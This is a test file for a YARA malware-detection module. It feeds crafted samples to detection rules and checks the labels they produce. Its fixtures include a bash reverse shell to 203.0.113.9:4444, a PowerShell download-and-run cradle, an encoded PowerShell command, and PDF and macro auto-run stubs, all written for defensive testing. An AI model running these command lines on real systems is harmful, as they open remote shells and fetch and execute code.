import type { Sha256 } from "@assay/core";
import assert from "node:assert/strict";
import type { CommandModule, Findings, Tools } from "../../module/define.ts";
import { openSandbox } from "../../sandbox/open.ts";
import { checkRules } from "./check_rules.ts";
import { nativeEngine } from "./engine.ts";
import yara from "./mod.ts";

const module = yara as unknown as CommandModule;
const sandbox = await openSandbox("auto");
const tools: Tools = { ...await findTools(), deno: Deno.execPath() };
const native = await nativeEngine(tools) !== null;
const signal = new AbortController().signal;
const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/** What `up` finds: the system's Python and the packages that were fetched for it. */
async function findTools(): Promise<Omit<Tools, "deno">> {
  const caches = [Deno.env.get("ASSAY_CACHE"), "/var/cache/assay", `${Deno.env.get("HOME")}/.cache/assay`];
  for (const cache of caches) {
    const names = cache
      ? await Array.fromAsync(Deno.readDir(cache), (entry) => entry.name).catch(() => [])
      : [];
    const found = names.find((name) => /^yara-x-[\d.]+$/.test(name));
    if (found) {
      return {
        python: await Deno.realPath("/usr/bin/python3").catch(() => null),
        pythonPath: [`${cache}/${found}`],
      };
    }
  }
  return { python: null, pythonPath: [] };
}

async function scan(
  files: Record<string, string>,
  engine: string,
  rules?: string,
): Promise<Map<string, Findings | null | Error>> {
  const folder = await Deno.makeTempDir();
  try {
    const batch = await Promise.all(
      Object.entries(files).map(async ([name, content]) => {
        const path = `${folder}/${name}`;
        await Deno.writeFile(path, Uint8Array.from(content, (c) => c.charCodeAt(0)));
        return { sha256: name as Sha256, size: content.length, fileType: "unknown", path };
      }),
    );
    if (rules !== undefined) await Deno.writeTextFile(`${folder}/test.yar`, rules);
    const options = module.options.parse({
      engine,
      ...(rules !== undefined && { rules: [`${folder}/test.yar`] }),
    });
    const found = new Map<string, Findings | null | Error>();
    for await (const { sha256, findings } of module.analyze(batch, options, sandbox, tools, signal)) {
      found.set(sha256, findings);
    }
    return found;
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}
const labels = (found: Findings | null | Error | undefined) =>
  found && !(found instanceof Error)
    ? found.observations.flatMap((o) => o.type === "detection" ? [o.label] : [])
    : found;

for (const engine of native ? ["native", "portable"] : ["portable"]) {
  Deno.test(`yara by the ${engine} engine reports matching rules with what their authors say`, async () => {
    const found = await scan({ bad: EICAR, good: "nothing here" }, engine);
    assert.deepEqual(labels(found.get("bad")), ["eicar_test_file"]);
    assert.equal(found.get("good"), null);
    const findings = found.get("bad") as Findings;
    assert.equal(
      findings.observations[0]!.type === "detection" && findings.observations[0]!.verdict,
      "malicious",
    );
    const [match] = findings.raw as unknown as { strings: { offset: number; data: string }[] }[];
    assert.equal(match!.strings[0]!.offset, 0);
    assert.ok(match!.strings[0]!.data.startsWith("58354f21"));
  });

  Deno.test(`yara by the ${engine} engine loses one broken rule and no other`, async () => {
    const rules = `rule broken { condition: no_such_thing }
rule sound { meta: family = "test" attack = "T1055" severity = "low" strings: $a = "needle" condition: $a }`;
    const found = (await scan({ hay: "a needle in hay" }, engine, rules)).get("hay") as Findings;
    assert.deepEqual(labels(found), ["sound"]);
    assert.deepEqual(found.observations.map((o) => o.type), ["detection", "technique"]);
    const detection = found.observations[0]!;
    assert.ok(
      detection.type === "detection" && detection.family === "test" && detection.verdict === "informational",
    );
  });
}

Deno.test("yara's own rules tell what they are written for from what looks like it", async () => {
  const stub = "MZ" + "\0".repeat(76) + "This program cannot be run in DOS mode";
  const found = await scan({
    embedded: "%PDF-1.4 " + stub,
    base64: btoa("xx" + stub),
    shell: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    harmless: "#!/bin/sh\nbash -i\nexec 3</dev/null\n",
    cradle:
      "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
    encoded: `powershell.exe -nop -enc ${"QUJD".repeat(20)}`,
    pdf: "%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
    form: "%PDF-1.7\n1 0 obj << /AcroForm 2 0 R >> endobj",
    program: stub,
  }, "auto");
  assert.deepEqual(Object.fromEntries([...found].map(([name, findings]) => [name, labels(findings)])), {
    embedded: ["pe_inside_other_file"],
    base64: ["pe_inside_base64"],
    shell: ["shell_reverse_connection"],
    harmless: null,
    cradle: ["powershell_download_and_run"],
    encoded: ["powershell_encoded_command"],
    pdf: ["pdf_runs_on_open"],
    form: null,
    program: null,
  });
});

Deno.test("yara's own rules know packers, makers of programs, hooks and macros", async () => {
  const pe = "MZ" + "\0".repeat(600);
  const elf = "\x7fELF" + "\0".repeat(60);
  const stub = "This program cannot be run in DOS mode";
  const entry = "PK\x01\x02" + "\0".repeat(42);
  const end = "PK\x05\x06\0\0\0\0\x01\0\x01\0" + `${String.fromCharCode(entry.length)}\0\0\0` +
    "\0".repeat(6);
  const found = await scan({
    upxPe: pe + "UPX0\0\0\0\0UPX1\0\0\0\0" + "3.96\0UPX!",
    upxElf: elf + "UPX!" + "\0".repeat(5000) + "UPX!\0\0",
    pyinstaller: pe + "MEI\x0c\x0b\x0a\x0b\x0e\0_MEIPASS",
    autoit: pe +
      "\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c\x53\x0a\x86\xd6\x48\x7d\x41\x55\x33\x21\x45\x41\x30",
    xored: "data" + Array.from(stub, (c) => String.fromCharCode(c.charCodeAt(0) ^ 0x5a)).join(""),
    preload: elf + "/etc/ld.so.preload\0readdir64\0dlsym\0hidden_port\0",
    macro: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Attribut\0e AutoOpen\0WScript.Shell",
    carrier: pe + "\0".repeat(600) + entry + end,
    document: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Attribut\0e Hello",
    mentions: pe + "\0".repeat(600) + "PK\x05\x06\0\0\0\0 is how a directory ends",
  }, "auto");
  assert.deepEqual(Object.fromEntries([...found].map(([name, findings]) => [name, labels(findings)])), {
    upxPe: ["pe_packed_by_upx"],
    upxElf: ["elf_packed_by_upx"],
    pyinstaller: ["pe_made_by_pyinstaller"],
    autoit: ["pe_made_by_autoit"],
    xored: ["pe_stub_under_xor"],
    preload: ["elf_hooks_by_preload"],
    macro: ["vba_runs_on_open"],
    carrier: ["pe_with_zip_behind"],
    document: null,
    mentions: null,
  });
});

for (const engine of native ? ["native", "portable"] : ["portable"]) {
  Deno.test(`yara by the ${engine} engine bounds what a rule that matches everywhere reports`, async () => {
    const rules = `rule many : first second { strings: $a = "aaaa" $b = /a{1,200}/ condition: any of them }`;
    const found = (await scan({ many: "a".repeat(20_000), empty: "" }, engine, rules)).get(
      "many",
    ) as Findings;
    const [match] = found.raw as unknown as { strings: { data: string }[]; count: number; tags: string[] }[];
    assert.equal(match!.strings.length, 20);
    assert.ok(match!.strings.every(({ data }) => data.length <= 128));
    assert.ok(match!.count > 20);
    assert.deepEqual(match!.tags, ["first", "second"]);
  });
}

Deno.test("checkRules() finds every own rule sound and names what is broken in others", async () => {
  assert.deepEqual(await checkRules(["own"], sandbox, tools, signal), []);
  const path = await Deno.makeTempFile({ suffix: ".yar" });
  await Deno.writeTextFile(path, "rule one { condition: true }\nrule two { condition: nowhere }");
  const [broken] = await checkRules([path], sandbox, tools, signal);
  assert.match(broken!.message, /nowhere/);
  await Deno.remove(path);
});

Deno.test("yara says why it is unavailable", async () => {
  const none = { python: null, pythonPath: [], deno: Deno.execPath() };
  const options = module.options.parse({ engine: "native" });
  assert.match(JSON.stringify(await module.probe(options, none)), /pip install yara-x/);
  const nowhere = module.options.parse({ rules: ["/nowhere/at/all"] });
  assert.match(JSON.stringify(await module.probe(nowhere, tools)), /rules can't be read/);
});
